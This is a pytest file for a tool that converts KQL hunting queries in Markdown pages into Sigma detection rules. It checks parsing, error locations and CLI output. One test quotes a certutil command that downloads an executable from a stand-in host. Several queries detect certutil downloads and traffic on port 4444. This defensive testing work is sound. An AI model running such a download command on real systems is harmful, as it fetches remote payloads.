"""Markdown query pages: every KQL block of a page is a rule, located in the page; prose, examples
in other languages and folder READMEs are not queries."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import yaml
from typer.testing import CliRunner

from conftest import assert_points_at
from rmm2sigma.cli import app
from rmm2sigma.convert import convert_input
from rmm2sigma.sigma import Options
from rmm2sigma.sources import MAX_PAGE_BLOCKS, discover, read_sources

PAGES = Path(__file__).resolve().parent / "fixtures" / "markdown"
CERTUTIL = PAGES / "certutil_download.md"
TYPO = PAGES / "typo_in_query.md"
OPTIONS = Options(author="tester", date=dt.date(2026, 1, 2))


def line_of(path: Path, text: str) -> int:
    return path.read_text(encoding="utf-8").split("\n").index(text) + 1


def test_each_kql_block_is_a_rule_with_the_pages_metadata() -> None:
    rules = read_sources(str(CERTUTIL))
    assert [rule.where for rule in rules] == ["Defender XDR", "Sentinel"]
    assert [rule.name for rule in rules] == [
        "Certutil Download (Defender XDR)",
        "Certutil Download (Sentinel)",
    ]
    first, second = rules
    assert first.kql.startswith("DeviceProcessEvents\n| where FileName") and "urlcache" in first.kql
    assert "verifyctl" in second.kql  # the ~~~ fence
    assert first.techniques == ("T1105",)
    assert first.description is not None and first.description.startswith("Certutil fetches files")
    assert "example.test" not in first.description  # the example block is not prose
    assert first.references == (
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/",
        "https://example.org/certutil-notes",
    )
    # the block's first line, in the page
    assert (first.kql_line, first.kql_column) == (line_of(CERTUTIL, "DeviceProcessEvents"), 1)
    lines = CERTUTIL.read_text(encoding="utf-8").split("\n")
    assert lines[second.kql_line - 1] == "DeviceProcessEvents" and lines[second.kql_line - 2] == "~~~"


def test_an_untagged_block_that_is_not_kql_is_skipped_with_a_warning() -> None:
    """The example command line becomes no rule, and the report says so; the PowerShell block,
    tagged as another language, is no candidate at all."""
    warnings = [w for rule in read_sources(str(CERTUTIL)) for w in rule.warnings]
    command = line_of(CERTUTIL, "certutil.exe -urlcache -split -f http://example.test/a.exe a.exe")
    assert len(warnings) == 1 and warnings[0].startswith(f"line {command}: untagged block skipped")
    assert "Invoke-WebRequest" not in " ".join(rule.kql for rule in read_sources(str(CERTUTIL)))


def test_a_page_gives_several_rules_in_the_report() -> None:
    result = convert_input(str(CERTUTIL), OPTIONS, ())
    assert result.status == "converted", result.error
    titles = [yaml.safe_load(rule.yaml)["title"] for rule in result.rules]
    assert titles == ["Certutil Download (Defender XDR)", "Certutil Download (Sentinel)"]
    documents = [yaml.safe_load(rule.yaml) for rule in result.rules]
    assert all(
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/" in d["references"] for d in documents
    )
    assert any("untagged block skipped" in warning for warning in result.warnings)


def test_a_syntax_error_is_located_in_the_page() -> None:
    """The block is indented two spaces inside its fence: the column counts them."""
    result = convert_input(str(TYPO), OPTIONS, ())
    assert result.status == "failed"
    assert_points_at(result.error, TYPO.read_text(encoding="utf-8"))


def test_a_page_without_kql_fails_at_its_first_block(tmp_path: Path) -> None:
    page = tmp_path / "notes.md"
    page.write_text('# Notes\n\nSettings:\n\n```\n{"enabled": true}\n```\n', encoding="utf-8")
    result = convert_input(str(page), OPTIONS, ())
    assert result.status == "failed" and result.error is not None
    assert result.error.startswith(f"{page}:6:")
    assert "no fenced block of the page parses as KQL" in result.error


def test_one_block_that_does_not_convert_leaves_the_others(tmp_path: Path) -> None:
    page = tmp_path / "two.md"
    page.write_text(
        "# Two\n\n## Good\n```kql\nDeviceProcessEvents\n| where FileName =~ 'a.exe'\n```\n\n"
        "## Bad\n```kql\nDeviceProcessEvents\n| where FileName ==== 'b'\n```\n",
        encoding="utf-8",
    )
    result = convert_input(str(page), OPTIONS, ())
    assert result.status == "partial" and len(result.rules) == 1
    assert result.error is not None and result.error.startswith(f"{page}:12:")


def test_a_pasted_page_saved_as_markdown_is_still_read_as_a_page(tmp_path: Path) -> None:
    page = tmp_path / "pasted.md"
    page.write_text("Hunt for a tool.\n\nKQL Query\n\nDeviceProcessEvents\n| where FileName =~ 'a.exe'\n")
    (rule,) = read_sources(str(page))
    assert rule.kql.startswith("DeviceProcessEvents") and rule.kql_line == 5


def test_discovery_lists_pages_with_a_fenced_block_only(tmp_path: Path) -> None:
    found = [Path(path).name for path in discover([str(PAGES)])]
    assert found == ["certutil_download.md", "typo_in_query.md"]
    named = tmp_path / "README.md"
    named.write_text("# Only prose\n")
    assert list(discover([str(named)])) == [str(named)]  # named explicitly: always read


def test_the_cli_converts_a_folder_of_pages(tmp_path: Path) -> None:
    out = tmp_path / "out"
    done = CliRunner().invoke(app, ["convert", str(PAGES), "-o", str(out), "-t", "splunk", "-q"])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.output
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    statuses = {Path(item["source"]).name: item["status"] for item in report["inputs"]}
    assert statuses == {"certutil_download.md": "converted", "typo_in_query.md": "failed"}
    assert report["summary"]["rules"] == 2
    assert "Traceback" not in done.output


def test_a_block_in_a_quote_is_located_past_the_quote_marks(tmp_path: Path) -> None:
    page = tmp_path / "quoted.md"
    page.write_text("# Quoted\n\n> ```kql\n> DeviceProcessEvents\n> | where FileName ==== 'b'\n> ```\n")
    (rule,) = read_sources(str(page))
    assert (rule.kql_line, rule.kql_column) == (4, 3)
    result = convert_input(str(page), OPTIONS, ())
    assert result.error is not None and result.error.startswith(f"{page}:5:")
    at = "> | where FileName ==== 'b'".index("====") + 1
    assert at <= int(result.error.split(":")[2]) <= at + 2, result.error


def test_a_page_of_thousands_of_blocks_is_refused_quickly(tmp_path: Path) -> None:
    page = tmp_path / "many.md"
    page.write_text("# Many\n" + "```\nnot kql $\n```\n" * (MAX_PAGE_BLOCKS + 1), encoding="utf-8")
    result = convert_input(str(page), OPTIONS, ())
    assert result.status == "failed" and result.error is not None
    assert result.error.startswith(f"{page}:{2 + 3 * MAX_PAGE_BLOCKS}:1:")


def test_a_block_of_queries_apart_by_blank_lines_is_a_rule_each(tmp_path: Path) -> None:
    """As a plain query file is (tests/test_query_blocks.py): Kusto Explorer's reading."""
    page = tmp_path / "two.md"
    page.write_text(
        "# Two Hunts\n\n```kql\nDeviceProcessEvents\n| where FileName =~ 'a.exe'\n\n"
        "DeviceNetworkEvents\n| where RemotePort == 4444\n```\n",
        encoding="utf-8",
    )
    rules = read_sources(str(page))
    assert [(r.where, r.kql_line, r.name) for r in rules] == [
        ("query 1", 4, "Two Hunts (query 1)"),
        ("query 2", 7, "Two Hunts (query 2)"),
    ]
    assert convert_input(str(page), OPTIONS, ("kusto",)).status == "converted"


def test_a_page_on_standard_input_is_read_as_a_page(tmp_path: Path) -> None:
    """A page piped in has no file name to tell it: its KQL-tagged fence (or a heading and a
    fence) does, which no query has; a query on standard input is still a query."""
    page = CERTUTIL.read_bytes()
    assert [rule.where for rule in read_sources("-", page)] == ["Defender XDR", "Sentinel"]
    (query,) = read_sources("-", b"DeviceProcessEvents\n| where FileName =~ 'certutil.exe'\n")
    assert query.kql.startswith("DeviceProcessEvents")
    done = CliRunner().invoke(app, ["convert", "-", "-o", str(tmp_path / "out"), "--json"], input=page)
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout)["rules"] == 2
